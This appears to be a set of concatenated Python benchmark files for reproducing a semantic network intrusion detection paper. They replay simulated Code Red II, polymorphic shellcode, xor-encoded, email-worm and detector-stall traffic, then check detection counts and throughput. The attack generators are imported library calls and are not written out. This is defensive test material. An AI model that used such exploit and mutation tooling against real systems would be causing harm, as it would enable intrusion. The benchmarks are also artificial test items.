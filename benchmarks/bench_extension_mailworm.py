"""Email-worm detection (the paper's §6 future work, implemented).

"In the near future, we intend to classify more exploit behaviors so
that we can generate additional useful templates ... (i.e. email
worms)."  This benchmark exercises the built-out extension: SMTP fan-out
classification routes a mass-mailer's traffic to analysis, base64
attachment bodies are decoded by the extraction stage, and the worm's
dropper stub is caught by the existing decoder template — no new
template was even needed, which is the semantic approach's selling
point.
"""

from repro.engines.mailworm import MailWormHost
from repro.net.wire import Wire
from repro.nids import NidsSensor, SemanticNids
from repro.traffic import BenignMixGenerator


def _run_outbreak():
    wire = Wire()
    nids = SemanticNids(smtp_fanout_threshold=8)
    NidsSensor(nids).attach(wire)
    # background benign traffic, including normal SMTP
    benign = BenignMixGenerator(seed=12)
    for _ in range(80):
        benign.conversation(wire)
    # two infected hosts start mailing
    worms = [MailWormHost(ip="192.168.2.7", seed=1),
             MailWormHost(ip="192.168.3.9", seed=2)]
    for worm in worms:
        worm.burst(wire, count=12)
    # more benign traffic after
    for _ in range(40):
        benign.conversation(wire)
    return nids, {w.ip for w in worms}


def test_mailworm_outbreak(benchmark, report):
    nids, infected = benchmark.pedantic(_run_outbreak, rounds=1, iterations=1)

    flagged = set(nids.classifier.fanout.mailers())
    detected = nids.alert_sources()
    rows = [
        f"infected hosts:        {sorted(infected)}",
        f"fan-out flagged:       {sorted(flagged)}",
        f"semantically detected: {sorted(detected)}",
        f"alerts by template:    {nids.alerts_by_template()}",
        f"benign SMTP clients flagged: "
        f"{sorted(flagged - infected) or 'none'}",
        "detection chain: fan-out classifier -> base64 attachment decode "
        "-> existing xor decoder template",
    ]
    report.table("Extension — email-worm detection (paper §6 future work)",
                 rows)

    assert flagged == infected
    assert detected == infected
    assert "xor_decrypt_loop" in nids.alerts_by_template()

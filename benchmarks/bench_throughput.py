"""Throughput: the parallel flow-sharded engine vs the serial seed path.

Replays one mixed trace — benign HTTP/SMTP/DNS conversations, Code Red II
sweeps, and polymorphic (ADMmutate) overflow campaigns — through three
engine configurations:

- ``seed-serial``: frame cache off, full-stream reanalysis (the behaviour
  of the original serial pipeline, used as the baseline);
- ``serial+cache``: the serial engine with the content-hash frame cache
  and incremental reanalysis;
- ``parallel-4``: :class:`ParallelSemanticNids` with four flow-sharded
  workers plus the parent-side payload-digest cache.

The acceptance bar is a >=3x packets/s speedup for parallel-4 over
seed-serial with a byte-identical alert set; the cache hit rate is
reported alongside.

Timing comes from the observability layer, not hand-rolled clocks: each
configuration runs wrapped in a ``bench.*`` tracer span (the same span
machinery ``repro-sensor --trace-out`` streams), the per-stage breakdown
table is folded out of the collected stage spans by the ``bench_tracer``
fixture, and a paired run with metric recording suppressed checks that
the always-on metrics cost <= 3% of wall time.
"""

import json
from pathlib import Path

import repro.obs.stage as stage_mod
from repro.engines import AdmMutateEngine, generic_overflow_request, get_shellcode
from repro.engines.codered import CodeRedHost
from repro.net.layers import TCP_SYN
from repro.net.packet import tcp_packet
from repro.nids import ParallelSemanticNids, SemanticNids
from repro.obs import aggregate_spans, Tracer
from repro.traffic import BenignMixGenerator

BENCH_JSON = Path(__file__).resolve().parent.parent / "BENCH_throughput.json"

NIDS_KW = dict(dark_networks=["10.0.0.0/8"], dark_exclude=["10.10.0.0/24"],
               dark_threshold=5)


def _tcp_flow(src, dst, sport, dport, request, base_time, mss=536):
    """SYN + mss-sized data segments + FIN for one request."""
    out = [tcp_packet(src, dst, sport, dport, flags=TCP_SYN, seq=100,
                      timestamp=base_time)]
    seq, t, off = 101, base_time + 0.001, 0
    while off < len(request):
        chunk = request[off:off + mss]
        out.append(tcp_packet(src, dst, sport, dport, payload=chunk,
                              flags=0x18, seq=seq, timestamp=t))
        seq += len(chunk)
        off += len(chunk)
        t += 0.0005
    out.append(tcp_packet(src, dst, sport, dport, flags=0x11, seq=seq,
                          timestamp=t))
    return out


def build_mixed_trace(benign: int, crii: int, poly: int, victims: int,
                      seed: int = 7):
    """Benign mix + CRII sweeps + polymorphic overflow campaigns.

    Each attacker first trips the dark-space classifier (so its payloads
    reach the analysis stages), then replays one request against every
    victim — the repetition a deployed sensor sees during a worm sweep,
    and what the content-hash caches exploit.
    """
    packets = BenignMixGenerator(seed=seed).generate_packets(benign)
    shell = get_shellcode("classic-execve").assemble()
    for i in range(crii):
        host = CodeRedHost(ip=f"10.{41 + i % 20}.{1 + i}.2", seed=seed + i)
        base = 0.5 + i * 0.01
        packets += host.scan_packets(count=8, base_time=base)
        for v in range(victims):
            packets += host.exploit_packets(f"10.10.0.{5 + v}",
                                            base_time=base + 1 + v * 0.003)
    for i in range(poly):
        src = f"10.{61 + i % 20}.{1 + i}.3"
        base = 0.7 + i * 0.01
        for s in range(8):
            packets.append(tcp_packet(src, f"10.66.{i + 1}.{s + 1}",
                                      2000 + s, 80, flags=TCP_SYN, seq=1,
                                      timestamp=base + s * 0.001))
        request = generic_overflow_request(
            AdmMutateEngine(seed=seed + i).mutate(shell, instance=i).data,
            seed=i)
        for v in range(victims):
            packets += _tcp_flow(src, f"10.10.0.{5 + v}", 3000 + v, 80,
                                 request, base + 1 + v * 0.003)
    packets.sort(key=lambda p: p.timestamp)
    return packets


def _run(trace, nids, tracer, tag):
    with tracer.span(f"bench.{tag}") as span:
        nids.process_trace(trace)
        nids.close()
    alerts = sorted((a.template, a.source) for a in nids.alerts)
    return span.duration, alerts, nids.stats


def test_throughput_parallel_vs_serial(benchmark, report, scale, bench_tracer):
    trace = build_mixed_trace(benign=scale["throughput_benign"],
                              crii=scale["throughput_crii"],
                              poly=scale["throughput_poly"],
                              victims=scale["throughput_victims"])
    payload_bytes = sum(len(p.payload) for p in trace)

    # Benchmark the headline configuration end-to-end...
    benchmark.pedantic(
        lambda: _run(trace, ParallelSemanticNids(workers=4, **NIDS_KW),
                     bench_tracer, "headline"),
        rounds=1, iterations=1)

    # ...then measure all three configurations for the comparison table.
    # Each engine carries the bench tracer, so every classify/reassemble/
    # extract/analyze call lands in the per-stage breakdown table the
    # ``bench_tracer`` fixture prints on teardown.
    configs = [
        ("seed-serial", lambda: SemanticNids(
            frame_cache_size=0, reanalysis_overlap=None,
            tracer=bench_tracer, **NIDS_KW)),
        ("serial+cache", lambda: SemanticNids(tracer=bench_tracer,
                                              **NIDS_KW)),
        ("parallel-4", lambda: ParallelSemanticNids(
            workers=4, tracer=bench_tracer, **NIDS_KW)),
    ]
    rows = [f"{'engine':14s} {'time':>8s} {'pkt/s':>8s} {'MB/s':>7s} "
            f"{'alerts':>6s} {'cache hit%':>10s}"]
    results = {}
    for tag, make in configs:
        elapsed, alerts, stats = _run(trace, make(), bench_tracer, tag)
        results[tag] = (elapsed, alerts)
        rows.append(
            f"{tag:14s} {elapsed:7.2f}s {len(trace) / elapsed:8.0f} "
            f"{payload_bytes / elapsed / 1e6:7.2f} {len(alerts):6d} "
            f"{stats.frame_cache_hit_rate * 100:9.1f}%")

    speedup = results["seed-serial"][0] / results["parallel-4"][0]
    rows.append(f"parallel-4 speedup over seed-serial: {speedup:.2f}x "
                f"(target >= 3x) on {len(trace)} packets")

    # Metrics-overhead check: the registry is always on, so the cost of
    # recording (histogram bucketing + counter updates) is isolated by
    # re-running serial+cache with StageTimer.observe suppressed.  Runs
    # are untraced so span emission does not skew the pair, interleaved
    # A/B with min-of-3 per side (single pairs jitter +/-10%+).
    orig_observe = stage_mod.StageTimer.observe
    on_times, off_times = [], []
    try:
        for rep in range(3):
            on_times.append(_run(trace, SemanticNids(**NIDS_KW),
                                 bench_tracer, f"obs-on-{rep}")[0])
            stage_mod.StageTimer.observe = (
                lambda self, duration, nbytes=0: None)
            off_times.append(_run(trace, SemanticNids(**NIDS_KW),
                                  bench_tracer, f"obs-off-{rep}")[0])
            stage_mod.StageTimer.observe = orig_observe
    finally:
        stage_mod.StageTimer.observe = orig_observe
    on_s, off_s = min(on_times), min(off_times)
    overhead = on_s / off_s - 1.0
    rows.append(f"metric-recording overhead: {overhead * 100:+.1f}% "
                f"(target <= 3%; best of 3: {on_s:.2f}s vs {off_s:.2f}s "
                f"suppressed)")
    report.table("Throughput — parallel flow-sharded engine", rows)

    assert results["serial+cache"][1] == results["seed-serial"][1]
    assert results["parallel-4"][1] == results["seed-serial"][1]
    assert speedup >= 3.0
    # Lenient CI bound (single runs jitter); the reported number is the
    # one held to the 3% target.
    assert overhead <= 0.10


def test_fastpath_admission(report, scale, bench_tracer):
    """Fast-path admission layer: prefilter on vs off, identical alerts.

    Replays the mixed trace through the serial engine with the template
    anchor prefilter enabled and disabled.  The prefilter is a pure
    work-skipper — anchors are necessary conditions — so the alert
    streams must be byte-identical; the win is wall time.  Results land
    in ``BENCH_throughput.json`` at the repo root (consumed by the CI
    perf-smoke job): per-configuration seconds and per-stage span
    totals, the on-over-off speedup, and the prefilter's skip/prune
    counters.
    """
    trace = build_mixed_trace(benign=scale["throughput_benign"],
                              crii=scale["throughput_crii"],
                              poly=scale["throughput_poly"],
                              victims=scale["throughput_victims"])
    payload_bytes = sum(len(p.payload) for p in trace)

    # Fresh engines per round; min-of-3 per config (single runs jitter).
    # Each config gets its own tracer so the per-stage totals in the
    # JSON artifact are per-configuration, not commingled.
    configs = {}
    for tag, fastpath in [("fastpath-off", False), ("fastpath-on", True)]:
        best, best_alerts, best_stats, best_tracer = None, None, None, None
        for _ in range(3):
            tracer = Tracer(max_spans=2_000_000)
            elapsed, alerts, stats = _run(
                trace, SemanticNids(fastpath=fastpath, tracer=tracer,
                                    **NIDS_KW),
                bench_tracer, tag)
            if best is None or elapsed < best:
                best, best_alerts, best_stats = elapsed, alerts, stats
                best_tracer = tracer
        stages = {
            stage: {"calls": agg["calls"],
                    "seconds": round(agg["seconds"], 4),
                    "bytes": agg["bytes"]}
            for stage, agg in aggregate_spans(best_tracer.spans).items()
        }
        configs[tag] = dict(elapsed=best, alerts=best_alerts,
                            stats=best_stats, stages=stages)

    off, on = configs["fastpath-off"], configs["fastpath-on"]
    speedup = off["elapsed"] / on["elapsed"]
    stats = on["stats"]
    skip_rate = (stats.fastpath_frames_skipped /
                 max(1, stats.fastpath_frames_skipped
                     + stats.frames_analyzed))

    rows = [f"{'config':14s} {'time':>8s} {'pkt/s':>8s} {'MB/s':>7s} "
            f"{'alerts':>6s}"]
    for tag in ("fastpath-off", "fastpath-on"):
        c = configs[tag]
        rows.append(f"{tag:14s} {c['elapsed']:7.2f}s "
                    f"{len(trace) / c['elapsed']:8.0f} "
                    f"{payload_bytes / c['elapsed'] / 1e6:7.2f} "
                    f"{len(c['alerts']):6d}")
    rows.append(f"fastpath speedup (on over off): {speedup:.2f}x on "
                f"{len(trace)} packets, alerts byte-identical")
    rows.append(f"prefilter: frames_skipped={stats.fastpath_frames_skipped} "
                f"(skip rate {skip_rate * 100:.1f}%) "
                f"anchor_hits={stats.fastpath_anchor_hits} "
                f"starts_pruned={stats.fastpath_starts_pruned}")
    report.table("Fast-path admission — prefilter on vs off", rows)

    payload = {
        "scale": dict(scale),
        "packets": len(trace),
        "payload_bytes": payload_bytes,
        "configs": {
            tag: {
                "seconds": round(c["elapsed"], 4),
                "packets_per_s": round(len(trace) / c["elapsed"], 1),
                "alerts": len(c["alerts"]),
                "stages": c["stages"],
            }
            for tag, c in configs.items()
        },
        "speedup_on_over_off": round(speedup, 3),
        "alerts_identical": off["alerts"] == on["alerts"],
        "prefilter": {
            "frames_skipped": stats.fastpath_frames_skipped,
            "frame_skip_rate": round(skip_rate, 4),
            "anchor_hits": stats.fastpath_anchor_hits,
            "starts_pruned": stats.fastpath_starts_pruned,
        },
    }
    # Merge, don't clobber: the match-engine benchmark stores its own
    # section (and the append-style run history) in the same artifact.
    bench = {}
    if BENCH_JSON.exists():
        try:
            bench = json.loads(BENCH_JSON.read_text())
        except ValueError:
            bench = {}
    bench.update(payload)
    BENCH_JSON.write_text(json.dumps(bench, indent=2) + "\n")
    report.row(f"wrote {BENCH_JSON.name}")

    # Soundness is absolute; speed is asserted leniently here (CI hosts
    # jitter) — the perf-smoke job holds the artifact to >= 1.0x.
    assert off["alerts"] == on["alerts"]
    assert stats.fastpath_starts_pruned > 0
    assert speedup >= 1.0


def test_compiled_match_engine(report, scale, bench_tracer):
    """Compiled match plans + lifted-IR memoization vs the interpreter.

    Replays the mixed trace through the serial engine twice: once on the
    recursive template-walk interpreter (the seed matcher), once on
    compiled match plans with the lifted-IR cache — both with the frame
    cache off, so every analyzed frame pays the full match cost and the
    comparison isolates the match engine itself.  Alerts must be
    byte-identical; the win is the combined disassemble+lift+match span.

    Results merge into ``BENCH_throughput.json`` under ``match_engine``,
    and every run appends a compact entry to the artifact's ``history``
    list — the seed-relative speedup trajectory the CI perf-smoke job
    records and gates on (compiled must never regress >10% against the
    interpreter).
    """
    trace = build_mixed_trace(benign=scale["throughput_benign"],
                              crii=scale["throughput_crii"],
                              poly=scale["throughput_poly"],
                              victims=scale["throughput_victims"])
    payload_bytes = sum(len(p.payload) for p in trace)

    engine_kw = {
        "interpreted": dict(compiled=False, frame_cache_size=0),
        "compiled": dict(compiled=True, frame_cache_size=0,
                         ir_cache_size=4096),
    }
    configs = {}
    for tag, kw in engine_kw.items():
        best, best_alerts, best_tracer = None, None, None
        for _ in range(3):
            tracer = Tracer(max_spans=2_000_000)
            elapsed, alerts, _ = _run(
                trace, SemanticNids(fastpath=True, tracer=tracer,
                                    **kw, **NIDS_KW),
                bench_tracer, f"engine-{tag}")
            if best is None or elapsed < best:
                best, best_alerts, best_tracer = elapsed, alerts, tracer
        stages = {
            stage: {"calls": agg["calls"],
                    "seconds": round(agg["seconds"], 4),
                    "bytes": agg["bytes"]}
            for stage, agg in aggregate_spans(best_tracer.spans).items()
        }
        configs[tag] = dict(elapsed=best, alerts=best_alerts, stages=stages)

    def match_analyze(c):
        """The spans the match engine owns: decode, lift, match.  (The
        enclosing ``analyze`` span also carries cache/prefilter overhead,
        so the inner spans are the honest comparison.)"""
        return sum(c["stages"].get(s, {"seconds": 0.0})["seconds"]
                   for s in ("disassemble", "lift", "match"))

    interp, comp = configs["interpreted"], configs["compiled"]
    wall_speedup = interp["elapsed"] / comp["elapsed"]
    span_speedup = match_analyze(interp) / max(1e-9, match_analyze(comp))

    rows = [f"{'engine':14s} {'time':>8s} {'pkt/s':>8s} "
            f"{'match+analyze':>14s} {'alerts':>6s}"]
    for tag in ("interpreted", "compiled"):
        c = configs[tag]
        rows.append(f"{tag:14s} {c['elapsed']:7.2f}s "
                    f"{len(trace) / c['elapsed']:8.0f} "
                    f"{match_analyze(c):13.2f}s {len(c['alerts']):6d}")
    rows.append(f"compiled speedup: {wall_speedup:.2f}x wall, "
                f"{span_speedup:.2f}x on match+analyze spans "
                f"(target >= 3x) — alerts byte-identical")
    report.table("Compiled match engine — plans + IR cache vs interpreter",
                 rows)

    entry = {
        "scale": dict(scale),
        "packets": len(trace),
        "interpreted_packets_per_s": round(len(trace) / interp["elapsed"], 1),
        "compiled_packets_per_s": round(len(trace) / comp["elapsed"], 1),
        "wall_speedup": round(wall_speedup, 3),
        "match_analyze_speedup": round(span_speedup, 3),
    }
    bench = {}
    if BENCH_JSON.exists():
        try:
            bench = json.loads(BENCH_JSON.read_text())
        except ValueError:
            bench = {}
    bench["match_engine"] = {
        "configs": {
            tag: {
                "seconds": round(c["elapsed"], 4),
                "packets_per_s": round(len(trace) / c["elapsed"], 1),
                "match_analyze_seconds": round(match_analyze(c), 4),
                "alerts": len(c["alerts"]),
                "stages": c["stages"],
            }
            for tag, c in configs.items()
        },
        "payload_bytes": payload_bytes,
        "wall_speedup": entry["wall_speedup"],
        "match_analyze_speedup": entry["match_analyze_speedup"],
        "alerts_identical": interp["alerts"] == comp["alerts"],
    }
    # Append-style trajectory: one compact entry per recorded run, so
    # the artifact carries the speedup history across CI runs that
    # restore it, not just the latest point.
    bench.setdefault("history", []).append(entry)
    BENCH_JSON.write_text(json.dumps(bench, indent=2) + "\n")
    report.row(f"merged match_engine into {BENCH_JSON.name} "
               f"(history: {len(bench['history'])} entries)")

    # Soundness is absolute; speed is asserted leniently here (CI hosts
    # jitter) — the perf-smoke gate holds the artifact to >= 0.9x and
    # the reported number is the one held to the 3x target.
    assert interp["alerts"] == comp["alerts"]
    assert span_speedup >= 1.2


def test_stall_isolation_under_deadline(report, scale, bench_tracer):
    """A detector-stalling flow must not starve the other shards.

    One source sends Bania-style stall payloads (each decodes to ~80k
    instructions) alongside the normal mixed trace.  With a per-payload
    deadline the stalls are cut off after their budget, so the measured
    throughput over the *non-stall* packets should stay within 10% of a
    run with no stall flow at all — the degradation is contained to the
    offending flow's shard instead of spreading.
    """
    from repro.net.packet import udp_packet
    from repro.resilience import DEADLINE_TEMPLATE, build_stall_payload

    trace = build_mixed_trace(benign=scale["throughput_benign"] // 2,
                              crii=max(2, scale["throughput_crii"] // 2),
                              poly=max(2, scale["throughput_poly"] // 2),
                              victims=scale["throughput_victims"])
    stall = build_stall_payload(instructions=80_000)
    # One 5-tuple for every stall: sticky sharding pins the whole attack
    # to a single worker, which is precisely the isolation under test.
    stall_packets = [udp_packet("10.66.6.6", "10.10.0.9", 6000, 69,
                                payload=stall, timestamp=0.4 + i * 0.05)
                     for i in range(8)]
    # The stall source trips the dark-space classifier first, so its
    # payloads actually reach analysis.
    for s in range(8):
        stall_packets.insert(s, tcp_packet(
            "10.66.6.6", f"10.67.0.{s + 1}", 2000 + s, 80, flags=TCP_SYN,
            seq=1, timestamp=0.3 + s * 0.001))
    stalled_trace = sorted(trace + stall_packets, key=lambda p: p.timestamp)

    def engine(deadline_ms=5):
        return ParallelSemanticNids(workers=4,
                                    analysis_deadline_ms=deadline_ms,
                                    payload_cache_size=0,
                                    tracer=bench_tracer, **NIDS_KW)

    clean_s, clean_alerts, _ = _run(trace, engine(), bench_tracer,
                                    "stall-clean")
    stall_s, stall_alerts, _ = _run(stalled_trace, engine(), bench_tracer,
                                    "stall-injected")
    # The same stalled trace with no budget: what the attacker would have
    # cost us without the deadline (every stall analyzed to completion).
    unbounded_s, _, _ = _run(stalled_trace, engine(deadline_ms=None),
                             bench_tracer, "stall-unbounded")

    # Throughput over the shared (non-stall) packets only: the stall
    # packets' own (bounded) cost is the attacker's budget, not
    # collateral damage.
    clean_rate = len(trace) / clean_s
    stalled_rate = len(trace) / stall_s
    impact = 1.0 - stalled_rate / clean_rate
    import os
    cpus = (len(os.sched_getaffinity(0))
            if hasattr(os, "sched_getaffinity") else (os.cpu_count() or 1))
    deadline_alerts = [a for a in stall_alerts
                       if a[0] == DEADLINE_TEMPLATE]
    report.table("Stall isolation — per-payload deadline", [
        f"clean run:     {clean_s:6.2f}s  {clean_rate:8.0f} pkt/s over "
        f"{len(trace)} shared packets",
        f"stalled run:   {stall_s:6.2f}s  {stalled_rate:8.0f} pkt/s "
        f"(+{len(stall_packets)} stall-flow packets, deadline on)",
        f"unbounded run: {unbounded_s:6.2f}s (same trace, no deadline: "
        f"{unbounded_s / stall_s:.1f}x slower)",
        f"other-shard throughput impact: {impact * 100:+.1f}% "
        f"(target <= 10% with >= 2 CPUs; this host has {cpus})",
        f"deadline trips surfaced: {len(deadline_alerts)} degraded "
        f"alert(s) from the stall source",
    ])

    # The stalls were cut off and surfaced...
    assert len(deadline_alerts) == 8
    assert all(src == "10.66.6.6" for _, src in deadline_alerts)
    # ...and the rest of the traffic alerts exactly as before.
    assert [a for a in stall_alerts
            if a[0] != DEADLINE_TEMPLATE] == clean_alerts
    # The deadline caps the attacker-imposed work: bounding the budget
    # must beat analyzing the stalls to completion.
    assert stall_s < unbounded_s
    if cpus >= 2:
        # Wall-clock isolation only exists when the stall shard can run
        # concurrently with the rest.  Lenient CI bound (jitter); the
        # reported number is the one held to the 10% target.
        assert impact <= 0.35

"""Semantic vs syntactic detection (the paper's §1/§3 premise, quantified).

Not a numbered table in the paper, but its central argument: "we must
rely on the meaning of the code, and not its syntax, for reliable
detection."  This benchmark pits a competent Snort-style signature IDS
(Aho-Corasick over signatures built from the very payloads under test)
against the semantic analyzer across static exploits, xor-encoded
payloads, and both polymorphic engines.
"""

from repro.baseline import SignatureScanner
from repro.core import SemanticAnalyzer, decoder_templates
from repro.engines import (
    AdmMutateEngine,
    CletEngine,
    EXPLOITS,
    build_exploit_request,
    code_red_ii_request,
    get_shellcode,
    xor_encode,
)
from repro.extract import BinaryExtractor


def _semantic_detects(analyzer, extractor, request: bytes) -> bool:
    return any(analyzer.analyze_frame(f.data).detected
               for f in extractor.extract(request))


def test_semantic_vs_signature(benchmark, report, scale):
    signature = SignatureScanner()
    semantic = SemanticAnalyzer()
    extractor = BinaryExtractor()
    payload = get_shellcode("classic-execve").assemble()
    n = scale["admmutate_instances"]

    def signature_scan_all():
        return sum(
            signature.detects(build_exploit_request(spec, seed=1))
            for spec in EXPLOITS
        )

    benchmark(signature_scan_all)

    rows = [f"{'workload':34s} {'signature IDS':>14s} {'semantic NIDS':>14s}"]

    # Static exploits: both should win (signatures were built from these).
    sig = sum(signature.detects(build_exploit_request(s, seed=1))
              for s in EXPLOITS)
    sem = sum(_semantic_detects(semantic, extractor,
                                build_exploit_request(s, seed=1))
              for s in EXPLOITS)
    rows.append(f"{'8 static exploits':34s} {sig:>11d}/8 {sem:>11d}/8")
    assert sig == 8 and sem == 8

    # xor-encoded payload: one transformation kills the signature.
    enc = xor_encode(payload, key=0x31).data
    sig_enc = int(signature.detects(enc))
    sem_enc = int(semantic.analyze_frame(enc).detected)
    rows.append(f"{'xor-encoded payload':34s} {sig_enc:>11d}/1 {sem_enc:>11d}/1")
    assert sig_enc == 0 and sem_enc == 1

    # ADMmutate.
    adm = AdmMutateEngine(seed=6)
    adm_instances = [adm.mutate(payload, instance=i).data for i in range(n)]
    sig_adm = sum(signature.detects(d) for d in adm_instances)
    sem_both = SemanticAnalyzer(templates=decoder_templates())
    sem_adm = sum(sem_both.analyze_frame(d).detected for d in adm_instances)
    rows.append(f"{'ADMmutate x' + str(n):34s} {sig_adm:>9d}/{n} {sem_adm:>9d}/{n}")
    assert sig_adm <= n * 0.05
    assert sem_adm == n

    # Clet.
    clet = CletEngine(seed=6)
    clet_instances = [clet.mutate(payload, instance=i).data for i in range(n)]
    sig_clet = sum(signature.detects(d) for d in clet_instances)
    sem_clet = sum(semantic.analyze_frame(d).detected for d in clet_instances)
    rows.append(f"{'Clet x' + str(n):34s} {sig_clet:>9d}/{n} {sem_clet:>9d}/{n}")
    assert sig_clet <= n * 0.05
    assert sem_clet == n

    # Metamorphism: the payload itself is rewritten (§3) — no decoder to
    # find, but also no stable bytes to sign.
    from repro.engines.metamorph import MetamorphicEngine
    from repro.engines import get_shellcode as _gs

    meta_engine = MetamorphicEngine(seed=6, junk_probability=0.5)
    source = _gs("classic-execve").source
    meta_instances = [meta_engine.mutate_source(source, instance=i).data
                      for i in range(n)]
    sig_meta = sum(signature.detects(d) for d in meta_instances)
    sem_meta = sum(semantic.analyze_frame(d).detected for d in meta_instances)
    rows.append(f"{'metamorphic x' + str(n):34s} {sig_meta:>9d}/{n} {sem_meta:>9d}/{n}")
    assert sig_meta <= n * 0.10
    assert sem_meta == n

    # Code Red II is static — a signature exists, and semantics agree.
    crii = code_red_ii_request()
    sig_crii = int(signature.detects(crii))
    sem_crii = int(_semantic_detects(semantic, extractor, crii))
    rows.append(f"{'Code Red II (static worm)':34s} {sig_crii:>11d}/1 {sem_crii:>11d}/1")
    assert sig_crii == 1 and sem_crii == 1

    rows.append("known-static attacks: tie.  anything transformed: syntax "
                "0%, semantics 100% — the paper's premise")
    report.table("Comparison — signature IDS vs semantic NIDS", rows)

"""§5.1's implicit scaling relation: analysis time vs code size.

The paper's timings — exploits with <10 KB of binary code in 2.36-3.27 s,
22 KB Netsky samples in ~6.5 s — imply roughly linear scaling of the
semantic analysis in code size.  This benchmark measures our pipeline's
time across frame sizes and checks the same shape: near-linear growth
(no quadratic blow-up from the matcher), using clean mass-mailer-shaped
code as the workload.
"""

import time

from repro.core import SemanticAnalyzer
from repro.engines import netsky_sample

SIZES = [1024, 2048, 4096, 8192, 16384, 22528]


def test_scaling_with_code_size(benchmark, report):
    analyzer = SemanticAnalyzer()
    samples = {size: netsky_sample(size=size, seed=4, string_tables=False)
               for size in SIZES}

    benchmark(analyzer.analyze_frame, samples[4096])

    rows = [f"{'frame size':>10s} {'instructions':>13s} {'time':>10s} "
            f"{'us/instr':>9s}"]
    measurements = []
    for size in SIZES:
        data = samples[size]
        analyzer.analyze_frame(data)  # warm
        start = time.perf_counter()
        repeats = 3
        for _ in range(repeats):
            result = analyzer.analyze_frame(data)
        elapsed = (time.perf_counter() - start) / repeats
        assert not result.detected
        measurements.append((size, result.instruction_count, elapsed))
        per_instr = elapsed / max(result.instruction_count, 1) * 1e6
        rows.append(f"{size:10d} {result.instruction_count:13d} "
                    f"{elapsed * 1000:8.2f}ms {per_instr:8.2f}")

    # Shape check: time grows with size, and per-instruction cost stays
    # flat within a small factor (near-linear, like the paper's numbers:
    # <10KB -> 2.4-3.3s, 22KB -> 6.5s).
    times = [m[2] for m in measurements]
    assert times[-1] > times[0]
    per_instr_costs = [m[2] / max(m[1], 1) for m in measurements]
    assert max(per_instr_costs) / min(per_instr_costs) < 4.0
    rows.append("near-linear: per-instruction cost flat within a small "
                "factor (paper: <10KB in 2.4-3.3s, 22KB in ~6.5s)")
    report.table("§5.1 — analysis time vs code size", rows)

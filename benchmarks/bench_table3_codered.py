"""Table 3: detection of the Code Red II worm in production-style traces.

Twelve 5-minute traces (>200k packets each at paper scale; see
``REPRO_SCALE``) with a known number of CRII instances.  "From Table 3,
one can note that every instance was classified and matched correctly by
our NIDS" — the reproduction target is exact instance counting with zero
misses and zero spurious CRII alerts.
"""

import time

from repro.nids import SemanticNids
from repro.traffic import TABLE3_INSTANCE_COUNTS, build_table3_trace


def _run_trace(index: int, packets: int):
    trace = build_table3_trace(index, target_packets=packets)
    nids = SemanticNids(
        dark_networks=["10.0.0.0/8"],
        dark_exclude=["10.10.0.0/24"],
        dark_threshold=5,
    )
    start = time.perf_counter()
    nids.process_trace(trace.packets)
    elapsed = time.perf_counter() - start
    found = {a.source for a in nids.alerts if a.template == "codered_ii_vector"}
    return trace, found, elapsed


def test_table3_codered_traces(benchmark, report, scale):
    packets = scale["table3_packets"]

    # Benchmark one representative trace end-to-end...
    benchmark.pedantic(_run_trace, args=(0, packets), rounds=1, iterations=1)

    # ...and regenerate the full 12-row table.
    rows = [f"{'trace':10s} {'packets':>9s} {'instances':>9s} "
            f"{'detected':>9s} {'correct':>8s} {'time':>8s}"]
    all_correct = True
    for index in range(len(TABLE3_INSTANCE_COUNTS)):
        trace, found, elapsed = _run_trace(index, packets)
        correct = (len(found) == trace.crii_instances
                   and found == set(trace.crii_sources))
        all_correct &= correct
        rows.append(
            f"{trace.name:10s} {trace.packet_count:9d} "
            f"{trace.crii_instances:9d} {len(found):9d} "
            f"{'yes' if correct else 'NO':>8s} {elapsed:7.2f}s"
        )
    rows.append("paper: every instance classified and matched correctly "
                "across 12 traces of >200,000 packets")
    report.table("Table 3 — Code Red II worm detection", rows)

    assert all_correct

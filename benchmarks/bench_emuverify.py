"""Emulation-verification ablation (extension).

Measures the dynamic-confirmation stage: what fraction of true matches
the emulator can confirm per attack class, and what the verification
costs on top of static matching.  The design rule being validated: the
verifier only *upgrades* confidence — UNCONFIRMED never suppresses a
static alert, so the paper's zero-miss results are preserved by
construction.
"""

import time

from repro.core import EmulationVerifier, SemanticAnalyzer, decoder_templates
from repro.engines import (
    AdmMutateEngine,
    CletEngine,
    code_red_ii_request,
    get_shellcode,
    xor_encode,
)
from repro.extract import BinaryExtractor


def test_emuverify_rates(benchmark, report):
    analyzer = SemanticAnalyzer()
    decoder_analyzer = SemanticAnalyzer(templates=decoder_templates())
    verifier = EmulationVerifier()
    payload = get_shellcode("classic-execve").assemble()

    workloads: dict[str, list[bytes]] = {
        "plain shellcode corpus": [
            get_shellcode(n).assemble()
            for n in ("classic-execve", "push-pop-execve", "sub-zero-execve",
                      "store-built-execve", "arith-const-execve")
        ],
        "xor-encoded": [xor_encode(payload, key=k).data
                        for k in (0x21, 0x42, 0x63, 0x84)],
        "ADMmutate x30": [AdmMutateEngine(seed=8).mutate(payload, instance=i).data
                          for i in range(30)],
        "Clet x30": [CletEngine(seed=9).mutate(payload, instance=i).data
                     for i in range(30)],
    }
    crii_frames = BinaryExtractor().extract(code_red_ii_request())
    workloads["Code Red II stub"] = [
        f.data for f in crii_frames if f.origin.endswith("unicode")
    ]

    def verify_one():
        frame = workloads["ADMmutate x30"][0]
        result = decoder_analyzer.analyze_frame(frame)
        return verifier.verify(frame, result.matches[0])

    benchmark(verify_one)

    rows = [f"{'workload':24s} {'matched':>8s} {'confirmed':>10s} "
            f"{'static':>9s} {'dynamic':>9s}"]
    for name, frames in workloads.items():
        an = decoder_analyzer if "ADM" in name or "Clet" in name else analyzer
        matched = confirmed = 0
        static_time = dynamic_time = 0.0
        for frame in frames:
            t0 = time.perf_counter()
            result = an.analyze_frame(frame)
            static_time += time.perf_counter() - t0
            if not result.detected:
                continue
            matched += 1
            t0 = time.perf_counter()
            verdicts = [verifier.verify(frame, m) for m in result.matches]
            dynamic_time += time.perf_counter() - t0
            confirmed += any(v.confirmed for v in verdicts)
        rows.append(
            f"{name:24s} {matched:5d}/{len(frames):<3d} "
            f"{confirmed:7d}/{matched:<3d} "
            f"{static_time / len(frames) * 1000:7.2f}ms "
            f"{dynamic_time / max(matched, 1) * 1000:7.2f}ms"
        )
        assert matched == len(frames)
        assert confirmed == matched  # everything real confirms dynamically
    rows.append("verification only upgrades confidence; unconfirmed matches "
                "still alert (zero-miss preserved)")
    report.table("Extension — emulation-based verification", rows)

"""Evasion gauntlet: alert-set invariance and absorbed pressure, per transform.

